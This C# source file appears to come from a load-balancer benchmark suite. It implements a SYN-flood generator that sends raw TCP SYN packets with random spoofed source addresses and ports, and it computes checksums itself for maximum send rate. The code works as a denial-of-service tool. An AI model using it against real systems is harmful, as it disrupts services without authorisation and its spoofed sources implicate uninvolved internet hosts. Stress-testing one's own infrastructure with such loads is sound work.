using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;

namespace Ilb.Bench.Loads;

/// <summary>TCP packets that open connections from addresses that nobody has, as fast as one thread sends them.</summary>
internal sealed class SynFlood : IDisposable
{
    private const int IpHeader = 20, TcpHeader = 20;
    private const byte Tcp = 6, Syn = 2, DataOffset = TcpHeader / 4 << 4;

    private readonly Thread _thread;
    private long _sent;
    private volatile bool _stopped;

    /// <summary>Until it is disposed of, and the socket with it.</summary>
    public SynFlood(Socket raw, IPEndPoint target)
    {
        _thread = new Thread(() =>
        {
            using (raw)
                Send(raw, target, Environment.TickCount, () => !_stopped && Interlocked.Increment(ref _sent) > 0);
        });
        _thread.Start();
    }

    public long Sent => Interlocked.Read(ref _sent);

    /// <summary>Sends so many, each from another random address and port.</summary>
    /// <param name="raw">Takes packets with the IP header.</param>
    public static void Send(Socket raw, IPEndPoint target, int count)
    {
        var left = count;
        Send(raw, target, count, () => left-- > 0);
    }

    public void Dispose()
    {
        _stopped = true;
        _thread.Join();
    }

    private static void Send(Socket raw, IPEndPoint target, int seed, Func<bool> goesOn)
    {
        raw.SendBufferSize = 1 << 22;
        var random = new Random(seed);
        var to = target.Serialize();
        var packet = Packet(target);
        while (goesOn())
            raw.SendTo(Another(packet, random), SocketFlags.None, to);
    }

    /// <summary>The kernel fills in lengths and checksum of the IP header.</summary>
    private static byte[] Packet(IPEndPoint target)
    {
        var packet = new byte[IpHeader + TcpHeader];
        (packet[0], packet[8], packet[9]) = (0x45, 64, Tcp);
        target.Address.GetAddressBytes().CopyTo(packet, 16);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(IpHeader + 2), (ushort)target.Port);
        (packet[IpHeader + 12], packet[IpHeader + 13], packet[IpHeader + 14]) = (DataOffset, Syn, 0xff);
        return packet;
    }

    /// <summary>From 11.0.0.0 to 99.255.255.255: addresses of the internet.</summary>
    private static byte[] Another(byte[] packet, Random random)
    {
#pragma warning disable CA5394 // Nobody's secret.
        packet[12] = (byte)random.Next(11, 100);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(13), (ushort)random.Next());
        packet[15] = (byte)random.Next();
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(IpHeader), (ushort)random.Next(1024, 65536));
        BinaryPrimitives.WriteUInt32BigEndian(packet.AsSpan(IpHeader + 4), (uint)random.Next());
#pragma warning restore CA5394
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(IpHeader + 16), 0);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(IpHeader + 16), Checksum(packet));
        return packet;
    }

    /// <summary>RFC 9293, 3.1: over both addresses, the protocol, the length, and the segment.</summary>
    private static ushort Checksum(ReadOnlySpan<byte> packet)
    {
        uint sum = Tcp + TcpHeader;
        for (var at = 12; at < packet.Length; at += 2)
            sum += BinaryPrimitives.ReadUInt16BigEndian(packet[at..]);
        sum = (sum & 0xffff) + (sum >> 16);
        return (ushort)~((sum & 0xffff) + (sum >> 16));
    }
}
